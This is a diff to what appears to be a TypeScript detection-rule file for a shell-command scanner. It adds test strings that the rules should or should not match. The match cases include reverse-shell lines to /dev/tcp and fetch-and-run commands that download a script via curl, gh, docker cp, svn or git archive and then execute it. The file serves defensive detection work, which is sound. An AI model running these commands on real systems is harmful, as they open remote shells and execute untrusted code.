@@ -44,6 +44,10 @@ export const shellFindings: readonly NamedRule[] = [
       'source /dev/tcp/10.0.0.1/4444',
       'bash /dev//tcp/10.0.0.1/4444',
       'bash --rcfile <(curl -s https://x.example/r) -ic true',
+      'gh release download v1 -p i.sh && bash i.sh',
+      'docker cp web:/srv/i.sh . && sh i.sh',
+      'svn export https://x.example/r/t && sh t/i.sh',
+      'git archive --remote=a@x.example:r HEAD i.sh | tar x && sh i.sh',
     ],
     notMatch: [
       'curl https://x.example/i -o i.sh',
@@ -52,6 +56,10 @@ export const shellFindings: readonly NamedRule[] = [
       'exec 3< <(curl -s https://x.example/i); grep x <&3',
       'source ./dev/tcp/lib.sh',
       'bash --rcfile rc -ic true',
+      'gh release download v1 -p i.sh && bash j.sh',
+      'docker cp i.sh web:/srv/ && sh i.sh',
+      'rsync -a h:dist/ . && sh build.sh',
+      'hg branch t && sh t/i.sh',
     ],
   },
   {
